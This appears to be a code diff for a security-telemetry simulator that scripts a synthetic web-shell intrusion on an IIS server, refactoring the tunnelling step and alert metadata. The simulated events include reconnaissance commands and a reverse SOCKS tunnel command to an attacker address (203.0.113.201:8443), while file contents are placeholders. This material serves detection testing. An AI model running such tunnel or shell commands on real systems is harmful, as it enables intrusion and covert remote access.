@@ -1,7 +1,9 @@
 import { raise } from '../alerts';
+import { alarms } from './alarms.data';
 import { connect, touchFile } from '../events';
 import { day, minute, second } from '../window';
-import type { Story } from './stage';
+import type { ProcessRef } from '../journal';
+import type { Actor, Stage, Story } from './stage';
 
 const attacker = '203.0.113.201';
 const commands = [
@@ -11,6 +13,23 @@ const commands = [
   ['tasklist', 'tasklist /v'],
   ['systeminfo', 'systeminfo'],
 ] as const;
+
+const openTunnel = (stage: Stage, server: Actor, worker: ProcessRef): void => {
+  const later = worker.at + day;
+  const tool = stage.world.files.add('C:\\ProgramData\\t.exe', {
+    content: 'tunnel program',
+    size: 4_210_688,
+    threat: 'HackTool:Win64/Sample',
+  });
+  touchFile(server.act(worker, later), tool, { ActionType: 'FileCreated' });
+  const tunnel = server.journal.start({
+    file: tool,
+    at: later + 20 * second,
+    parent: worker,
+    command: `C:\\ProgramData\\t.exe client ${attacker}:8443 R:socks`,
+  });
+  connect(server.act(tunnel, later + 22 * second), { ip: attacker, port: 8443 });
+};
 
 /** A page that somebody uploaded to a web server gives them a shell there. */
 export const webshell: Story = (stage) => {
@@ -34,38 +53,18 @@ export const webshell: Story = (stage) => {
       localPort: 443,
       action: 'InboundConnectionAccepted',
     });
-  const page = world.files.add('C:\\inetpub\\wwwroot\\portal\\uploads\\img_resize.aspx', {
-    content: 'web shell',
-    size: 1734,
-    threat: 'Backdoor:ASP/Sample',
-  });
+  const facts = { content: 'web shell', size: 1734, threat: 'Backdoor:ASP/Sample' };
+  const page = world.files.add('C:\\inetpub\\wwwroot\\portal\\uploads\\img_resize.aspx', facts);
   touchFile(server.act(worker, at), page, { ActionType: 'FileCreated' });
   commands.forEach(([key, command], index) => {
     const when = at + (2 + index * 2) * minute;
     const shell = server.run('cmd', { at: when, parent: worker, command: `"cmd.exe" /c ${command}` });
     server.run(key, { at: when + second, parent: shell, command });
   });
-  const later = at + day;
-  const tool = world.files.add('C:\\ProgramData\\t.exe', {
-    content: 'tunnel program',
-    size: 4_210_688,
-    threat: 'HackTool:Win64/Sample',
-  });
-  touchFile(server.act(worker, later), tool, { ActionType: 'FileCreated' });
-  const tunnel = server.journal.start({
-    file: tool,
-    at: later + 20 * second,
-    parent: worker,
-    command: `C:\\ProgramData\\t.exe client ${attacker}:8443 R:socks`,
-  });
-  connect(server.act(tunnel, later + 22 * second), { ip: attacker, port: 8443 });
+  openTunnel(stage, server, worker);
   raise(world, {
+    ...alarms.webshell,
     at: at + 12 * minute,
-    title: 'Possible web shell on an internet-facing server',
-    category: 'Persistence',
-    severity: 'High',
-    service: 'Microsoft Defender for Endpoint',
-    techniques: ['Web Shell (T1505.003)', 'Protocol Tunneling (T1572)'],
     evidence: [
       { device: server.device },
       { device: server.device, process: worker },
